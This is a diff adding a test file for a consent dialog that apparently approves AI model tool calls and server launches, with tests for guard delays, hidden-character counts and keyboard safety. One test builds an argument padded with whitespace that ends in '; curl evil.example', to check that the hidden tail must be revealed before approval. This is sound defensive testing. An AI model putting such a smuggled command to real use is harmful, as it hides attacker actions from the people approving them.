@@ -1,0 +1,447 @@
+import { act, fireEvent, screen, within } from "@testing-library/react";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import type { Reply, Request } from "../../bindings/host";
+import type { Twin } from "../../platform/memory";
+import {
+  changedRequest,
+  changeLaunchRequest,
+  launchRequest,
+  newToolRequest,
+  refusedLaunchRequest,
+  writeRequest,
+} from "../../platform/memory/requests";
+import { expectAxeClean } from "../../test/axe";
+import { showApp } from "../../test/show";
+
+beforeEach(() => {
+  vi.useFakeTimers({ shouldAdvanceTime: false });
+});
+afterEach(() => {
+  vi.useRealTimers();
+});
+
+async function pass(ms: number): Promise<void> {
+  await act(async () => {
+    await vi.advanceTimersByTimeAsync(ms);
+  });
+}
+
+/** The window with these requests, past the guard unless told otherwise. */
+async function open(waiting: Request[], options: { guarded?: boolean; at?: string } = {}): Promise<Twin> {
+  const { twin } = await showApp(options.at ?? "#/activity", { waiting });
+  await pass(0);
+  if (!options.guarded) {
+    await pass(500);
+  }
+  return twin;
+}
+
+const gate = () => screen.getByRole("alertdialog");
+const noGate = () => screen.queryByRole("alertdialog");
+const button = (name: string | RegExp) => within(gate()).getByRole("button", { name });
+const press = (key: string, over: Partial<KeyboardEventInit> = {}) =>
+  fireEvent.keyDown(document.activeElement ?? document.body, { key, ...over });
+const answers = (twin: Twin) =>
+  twin.asked.filter((it) => it.name === "answer").map((it) => (it.args as { reply: Reply }).reply);
+const attends = (twin: Twin) => twin.asked.filter((it) => it.name === "attend").map((it) => it.args);
+
+async function click(element: HTMLElement): Promise<void> {
+  fireEvent.click(element);
+  await pass(0);
+}
+
+async function key(name: string, over: Partial<KeyboardEventInit> = {}): Promise<void> {
+  press(name, over);
+  await pass(0);
+}
+
+describe("what stands at the gate", () => {
+  it("asks our question as an alert dialog, with the focus on its heading", async () => {
+    await open([writeRequest("call-write")]);
+    expect(gate()).toHaveAccessibleName("Let “Project files” run “Write file”?");
+    expect(within(gate()).getByRole("heading", { level: 1 })).toHaveFocus();
+  });
+
+  it("s35 names the server's whereabouts and origin, and who asks", async () => {
+    await open([writeRequest("call-write")]);
+    expect(gate()).toHaveTextContent("write_file · local program · mcp-server-filesystem");
+    expect(gate()).toHaveTextContent("asked by Demo model in “Release notes for 2.4”");
+  });
+
+  it("sets the model's reason and the server's claims apart", async () => {
+    await open([writeRequest("call-write")]);
+    expect(gate()).toHaveTextContent("Why, in the model’s words");
+    expect(gate()).toHaveTextContent("may destroy or overwrite · can be repeated · not checked by anyone");
+    expect(gate()).toHaveTextContent("same definition as you approved");
+  });
+
+  it("s41 counts hidden characters", async () => {
+    await open([newToolRequest()]);
+    expect(gate()).toHaveTextContent("Follow up on⟨U+200B⟩⟨U+200B⟩⟨U+202E⟩ 2.4");
+    expect(within(gate()).getAllByText("3 hidden characters").length).toBeGreaterThan(0);
+  });
+
+  it("has no filled button that says yes", async () => {
+    await open([writeRequest("call-write")]);
+    for (const it of within(gate()).getAllByRole("button")) {
+      expect(it).not.toHaveAttribute("data-variant", "filled");
+    }
+  });
+
+  it("shows one at a time, and the next after an answer", async () => {
+    const twin = await open([newToolRequest(), launchRequest()]);
+    expect(screen.getAllByRole("alertdialog")).toHaveLength(1);
+    expect(gate()).toHaveTextContent("1 of 2");
+    await click(button("Deny"));
+    expect(answers(twin)).toHaveLength(1);
+    expect(gate()).toHaveAccessibleName(/Add “Weather”/);
+    await pass(500);
+    await click(button("Cancel"));
+    expect(noGate()).toBeNull();
+  });
+
+  it.each([
+    ["a tool", () => writeRequest("call-write")],
+    ["a new tool", newToolRequest],
+    ["a launch", () => launchRequest()],
+    ["a changed launch", changeLaunchRequest],
+    ["a refused launch", refusedLaunchRequest],
+    ["a changed definition", changedRequest],
+  ])("is axe clean for %s", async (_name, make) => {
+    await open([make()]);
+    vi.useRealTimers();
+    await expectAxeClean();
+  });
+});
+
+describe("s33 the guard", () => {
+  it("tells the host that the request is in front of the person", async () => {
+    const request = newToolRequest();
+    const twin = await open([request], { guarded: true });
+    expect(attends(twin)).toContainEqual({ request: request.id, nonce: request.nonce });
+  });
+
+  it("answers nothing for 500 ms, by click or by key", async () => {
+    const twin = await open([newToolRequest()], { guarded: true });
+    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
+    await click(button("Allow once"));
+    await click(button("Deny"));
+    await key("a");
+    await pass(498);
+    await key("d");
+    expect(answers(twin)).toEqual([]);
+    await pass(500);
+    expect(button("Allow once")).not.toHaveAttribute("aria-disabled");
+    await click(button("Allow once"));
+    expect(answers(twin)).toHaveLength(1);
+  });
+
+  it("starts again when the window regains the focus", async () => {
+    const twin = await open([newToolRequest()]);
+    const before = attends(twin).length;
+    await act(async () => {
+      window.dispatchEvent(new Event("focus"));
+    });
+    await pass(0);
+    expect(attends(twin).length).toBe(before + 1);
+    await key("a");
+    expect(answers(twin)).toEqual([]);
+    await pass(500);
+    await key("a");
+    expect(answers(twin)).toHaveLength(1);
+  });
+
+  it("starts again when the request changes", async () => {
+    const twin = await open([newToolRequest()]);
+    const waiting = twin.world.waiting[0] as Request;
+    waiting.nonce = "changed";
+    await act(async () => twin.tellWaiting());
+    await pass(0);
+    expect(attends(twin).at(-1)).toEqual({ request: waiting.id, nonce: "changed" });
+    await click(button("Allow once"));
+    expect(answers(twin)).toEqual([]);
+    await pass(500);
+    await click(button("Allow once"));
+    expect(answers(twin)[0]).toMatchObject({ nonce: "changed" });
+  });
+
+  it("says so quietly when the host finds it too soon, and stays", async () => {
+    const twin = await open([newToolRequest()]);
+    twin.failNext("answer", { code: "consent.too_soon", sentence: "Too soon.", remedy: null });
+    await click(button("Deny"));
+    expect(gate()).toHaveTextContent("Wait a moment");
+    await pass(500);
+    await click(button("Deny"));
+    expect(noGate()).toBeNull();
+  });
+
+  it("s39 closes what is no longer waiting", async () => {
+    const twin = await open([newToolRequest()]);
+    twin.failNext("answer", { code: "consent.stale", sentence: "Gone.", remedy: null });
+    await click(button("Allow once"));
+    expect(noGate()).toBeNull();
+  });
+
+  it("s39 closes when the request ends by itself", async () => {
+    const twin = await open([newToolRequest()]);
+    twin.world.waiting = [];
+    await act(async () => twin.tellWaiting());
+    expect(noGate()).toBeNull();
+  });
+
+  it("shows what else went wrong, and stays", async () => {
+    const twin = await open([newToolRequest()]);
+    twin.failNext("answer", { code: "store.full", sentence: "The disk is full.", remedy: "Make room." });
+    await click(button("Allow once"));
+    expect(gate()).toHaveTextContent("The disk is full.Make room.");
+  });
+});
+
+describe("the answer", () => {
+  it("carries the id, the nonce and the digest of what was shown", async () => {
+    const request = newToolRequest();
+    const twin = await open([request]);
+    await key("a");
+    expect(answers(twin)).toEqual([
+      {
+        request: request.id,
+        nonce: request.nonce,
+        digest: request.digest,
+        answer: { kind: "allow_once" },
+      },
+    ]);
+  });
+
+  it.each([
+    ["Deny", "deny"],
+    ["Deny all from this server", "deny_all_from_server"],
+    ["Allow once", "allow_once"],
+  ])("%s", async (name, kind) => {
+    const twin = await open([newToolRequest()]);
+    await click(button(name));
+    expect(answers(twin)[0]?.answer).toEqual({ kind });
+  });
+
+  it("a scope is a sentence in the menu", async () => {
+    const twin = await open([newToolRequest()]);
+    await click(button("Allow…"));
+    const item = screen.getByRole("menuitem", { name: /For an hour.*for the next hour/ });
+    await click(item);
+    expect(answers(twin)).toEqual([]);
+    await pass(500);
+    await click(item);
+    expect(answers(twin)[0]?.answer).toEqual({ kind: "allow", scope: "hour" });
+  });
+
+  it("s38 says why there is no always", async () => {
+    await open([writeRequest("call-write")]);
+    await click(button(/more lines/));
+    await click(button("Allow…"));
+    expect(screen.queryByRole("menuitem", { name: /Always/ })).toBeNull();
+    expect(screen.getByText(/so there is no “always”/)).toBeInTheDocument();
+  });
+
+  it("a changed definition is kept blocked by the one filled button", async () => {
+    const twin = await open([changedRequest()]);
+    expect(button("Keep it blocked")).toHaveAttribute("data-variant", "filled");
+    await key("a");
+    expect(answers(twin)).toEqual([]);
+    await click(button("Keep it blocked"));
+    expect(answers(twin)[0]?.answer).toEqual({ kind: "deny" });
+  });
+
+  it.each([
+    ["Turn the server off", "turn_off"],
+    ["Accept the new definition", "allow_once"],
+  ])("of a changed definition: %s", async (name, kind) => {
+    const twin = await open([changedRequest()]);
+    await click(button(name));
+    expect(answers(twin)[0]?.answer).toEqual({ kind });
+  });
+
+  it.each([
+    ["Cancel", "deny"],
+    ["Add, do not start", "add"],
+    ["Add and start", "add_and_start"],
+  ])("of a launch: %s", async (name, kind) => {
+    const twin = await open([launchRequest()]);
+    await key("a");
+    expect(answers(twin)).toEqual([]);
+    await click(button(name));
+    expect(answers(twin)[0]?.answer).toEqual({ kind });
+  });
+
+  it("of a change is saving, and shows what was before", async () => {
+    await open([changeLaunchRequest()]);
+    expect(button("Save, do not start")).toBeInTheDocument();
+    expect(button("Save and start")).toBeInTheDocument();
+    expect(gate()).toHaveTextContent("/home/ada/portalbefore/home/ada/portal/docs");
+  });
+
+  it("of a program that changed is starting", async () => {
+    const request = launchRequest();
+    if (request.asked.kind === "launch") {
+      request.asked.because = "the program file changed";
+    }
+    const twin = await open([request]);
+    expect(gate()).toHaveTextContent("the program file changed");
+    await click(button("Start"));
+    expect(answers(twin)[0]?.answer).toEqual({ kind: "add_and_start" });
+  });
+
+  it("s12 of what is refused can only be cancelling", async () => {
+    await open([refusedLaunchRequest()]);
+    expect(gate()).toHaveTextContent("NODE_OPTIONS");
+    expect(within(gate()).queryByRole("button", { name: /start/ })).toBeNull();
+    expect(button("Cancel")).toBeInTheDocument();
+  });
+});
+
+describe("keys", () => {
+  it("A held down, repeated or with a modifier answers nothing", async () => {
+    const twin = await open([newToolRequest()]);
+    await key("a", { repeat: true });
+    await pass(600);
+    await key("a", { ctrlKey: true });
+    await pass(600);
+    await key("a", { metaKey: true });
+    await pass(600);
+    await key("A", { shiftKey: true });
+    await pass(600);
+    await key("d", { altKey: true });
+    expect(answers(twin)).toEqual([]);
+  });
+
+  it("who goes on writing when the gate comes up answers nothing", async () => {
+    const twin = await open([newToolRequest()]);
+    for (const letter of ["b", "a", "d", "a"]) {
+      await key(letter);
+      await pass(150);
+    }
+    expect(answers(twin)).toEqual([]);
+    await pass(500);
+    await key("d");
+    expect(answers(twin)[0]?.answer).toEqual({ kind: "deny" });
+  });
+
+  it("nothing is answered while writing in a field", async () => {
+    const twin = await open([newToolRequest()]);
+    await click(button("Edit arguments"));
+    const field = within(gate()).getByLabelText("Arguments as JSON");
+    fireEvent.keyDown(field, { key: "d" });
+    await pass(600);
+    fireEvent.keyDown(field, { key: "a" });
+    await pass(0);
+    expect(answers(twin)).toEqual([]);
+  });
+
+  it("nothing is answered from the rail", async () => {
+    const twin = await open([newToolRequest()]);
+    const link = screen.getByRole("link", { name: "Settings" });
+    link.focus();
+    await key("a");
+    expect(answers(twin)).toEqual([]);
+  });
+
+  it("Esc leaves it waiting; it comes back when it is opened, or when something new waits", async () => {
+    const request = newToolRequest();
+    const twin = await open([request], { at: "#/waiting" });
+    await key("Escape");
+    expect(noGate()).toBeNull();
+    expect(answers(twin)).toEqual([]);
+    expect(screen.getByRole("link", { name: "Waiting for you" })).toHaveAccessibleDescription(
+      "1 request waits",
+    );
+    await act(async () => twin.tellWaiting());
+    expect(noGate()).toBeNull();
+    await click(screen.getByRole("button", { name: /Open: Let “GitHub”/ }));
+    expect(gate()).toBeInTheDocument();
+    await key("Escape");
+    await act(async () => twin.ask(launchRequest()));
+    expect(gate()).toHaveAccessibleName(/Add “Weather”/);
+  });
+});
+
+describe("s10 what is shortened", () => {
+  it("cannot be allowed before it was opened, but denied", async () => {
+    const twin = await open([writeRequest("call-write")]);
+    expect(gate()).toHaveTextContent("38 more lines, 1.8 KB in all · open");
+    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
+    await click(button("Allow once"));
+    await key("a");
+    await click(button("Allow…"));
+    expect(screen.queryByRole("menuitem")).toBeNull();
+    expect(answers(twin)).toEqual([]);
+    await click(button(/38 more lines/));
+    expect(gate()).toHaveTextContent("Change number 38");
+    await pass(500);
+    await key("a");
+    expect(answers(twin)).toHaveLength(1);
+  });
+
+  it("cannot be added before it was opened", async () => {
+    const request = launchRequest();
+    if (request.asked.kind === "launch") {
+      const text = `-c${" ".repeat(5_000)}; curl evil.example`;
+      request.asked.rows[1]?.values.push({ text: { text, hidden: 0 }, note: null, bytes: text.length });
+    }
+    const twin = await open([request]);
+    await click(button("Add and start"));
+    expect(answers(twin)).toEqual([]);
+    await click(button(/more characters/));
+    expect(gate()).toHaveTextContent("; curl evil.example");
+    await click(button("Add and start"));
+    expect(answers(twin)).toHaveLength(1);
+  });
+
+  it("is shortened again when the request changed", async () => {
+    const twin = await open([writeRequest("call-write")]);
+    await click(button(/38 more lines/));
+    (twin.world.waiting[0] as Request).nonce = "changed";
+    await act(async () => twin.tellWaiting());
+    await pass(500);
+    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
+  });
+});
+
+describe("editing the arguments", () => {
+  it("makes a changed request; nothing is allowed by it", async () => {
+    const request = newToolRequest();
+    const twin = await open([request]);
+    await click(button("Edit arguments"));
+    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
+    fireEvent.change(within(gate()).getByLabelText("Arguments as JSON"), {
+      target: { value: '{"repo":"acme/other"}' },
+    });
+    await click(button("Use these arguments"));
+    expect(twin.asked.find((it) => it.name === "amend")?.args).toEqual({
+      request: request.id,
+      nonce: request.nonce,
+      arguments: '{"repo":"acme/other"}',
+    });
+    expect(gate()).toHaveTextContent("acme/other");
+    await pass(500);
+    await click(button("Allow once"));
+    const changed = answers(twin)[0];
+    expect(changed?.nonce).not.toBe(request.nonce);
+    expect(changed?.digest).not.toBe(request.digest);
+  });
+
+  it("says what is not JSON and sends nothing", async () => {
+    const twin = await open([newToolRequest()]);
+    await click(button("Edit arguments"));
+    fireEvent.change(within(gate()).getByLabelText("Arguments as JSON"), { target: { value: "{" } });
+    await click(button("Use these arguments"));
+    expect(gate()).toHaveTextContent("This is not JSON");
+    expect(twin.asked.some((it) => it.name === "amend")).toBe(false);
+  });
+
+  it("Esc in the field leaves the arguments, not the gate", async () => {
+    await open([newToolRequest()]);
+    await click(button("Edit arguments"));
+    fireEvent.keyDown(within(gate()).getByLabelText("Arguments as JSON"), { key: "Escape" });
+    await pass(0);
+    expect(gate()).toBeInTheDocument();
+    expect(within(gate()).queryByLabelText("Arguments as JSON")).toBeNull();
+  });
+});
